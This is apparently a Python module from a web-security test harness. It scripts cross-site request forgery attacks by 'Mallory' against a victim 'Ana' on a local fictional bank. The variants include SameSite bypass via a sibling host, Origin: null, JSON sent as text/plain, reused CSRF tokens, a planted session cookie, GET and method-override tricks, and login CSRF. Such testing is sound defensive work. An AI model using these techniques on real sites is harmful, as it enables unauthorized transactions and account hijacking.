"""Cross-site request forgery: Mallory's page has Ana's browser send what Ana never meant (CWE-352).

The browser adds Ana's cookies by itself. Mallory never sees them, nor the answer: she only wants it done.
"""

import json

from .attempt import Attempt, Target
from .prediction import session_cookie
from .tossing import leave_a_note
from .victim import EVIL, MALLORY, PLAIN, Page, hidden_fields

__all__ = [
    "AMOUNT", "borrowed_token", "form", "form_without_a_name", "json_as_text", "link", "login", "override",
    "sibling_form", "token_from_before",
]  # fmt: skip

AMOUNT = 70  # ferns: below what needs a password


def form(target: Target) -> Attempt:
    """A form on another site."""
    return _send(target, Page(MALLORY, "/transfer", _order()))


def sibling_form(target: Target) -> Attempt:
    """The same form on a sibling host, which is the same site: SameSite does not stop it (RFC 6265bis §5.2)."""
    return _send(target, Page(EVIL, "/transfer", _order()))


def form_without_a_name(target: Target) -> Attempt:
    """The form, from a page that asks for `Origin: null` by its referrer policy (Fetch standard, "append Origin")."""
    return _send(target, Page(MALLORY, "/transfer", _order(), hides=True))


def json_as_text(target: Target) -> Attempt:
    """JSON out of a form that calls it text/plain, for which no browser asks CORS (ASVS 5.0 3.5.2)."""
    # A form writes name=value: the equal sign ends up in a member that nobody reads.
    start = json.dumps({"to": "mallory", "amount": AMOUNT, "x": ""})[:-2]
    return _send(target, Page(MALLORY, "/transfer", {start: '"}'}, enctype=PLAIN))


def borrowed_token(target: Target) -> Attempt:
    """The form, with a token that the bank gave Mallory for a session of her own."""
    page = target.mallory(logged_in=True).get("/balance", headers={"Accept": "text/html"})
    return _send(target, Page(MALLORY, "/transfer", {**_order(), **hidden_fields(page.text)}))


def token_from_before(target: Target) -> Attempt:
    """Plant a session in which she has read the token, let Ana log in, and send the form with that token."""
    mallory = target.mallory()
    page = mallory.get("/basket", headers={"Accept": "text/html"})
    mallory.post("/basket", form={"item": "umbrella", **hidden_fields(page.text)})
    name = session_cookie(mallory)
    watch = target.watch()
    # For one path only, and in front of Ana's own: so the log-in moves the planted session, and leaves hers to her.
    cookie = f"{name}={mallory.cookies[name]}; Domain=fernbank.localhost; Path=/login"
    target.victim.open(Page(EVIL, cookies=(cookie,)))
    target.victim.log_in()
    target.victim.open(Page(MALLORY, "/transfer", {**_order(), **hidden_fields(page.text)}))
    return Attempt(list(watch), hidden_fields(page.text), 1)


def link(target: Target) -> Attempt:
    """A link to an address that changes something by GET (ASVS 5.0 3.5.3): SameSite=Lax lets it through."""
    return _send(target, Page(MALLORY, "/pay", _order(), method="GET"))


def override(target: Target) -> Attempt:
    """A form that the bank takes for a PUT, at a door that is watched for POST."""
    return _send(target, Page(MALLORY, "/transfer?_method=PUT", _order()))


def login(target: Target) -> Attempt:
    """Login CSRF: the form logs Ana in, as Mallory. What she then writes down is in Mallory's book.

    No cookie of Ana's is needed, so SameSite has no say.
    """
    watch = target.watch()
    target.victim.log_in()
    target.victim.open(Page(MALLORY, "/login", {"username": "mallory", "password": target.mallorys_password}))
    return leave_a_note(target, watch)


def _order() -> dict[str, str]:
    return {"to": "mallory", "amount": str(AMOUNT)}


def _send(target: Target, page: Page) -> Attempt:
    watch = target.watch()
    target.victim.log_in()
    target.victim.open(page)
    return Attempt(list(watch), {"page": page.html(target.page)}, 1)
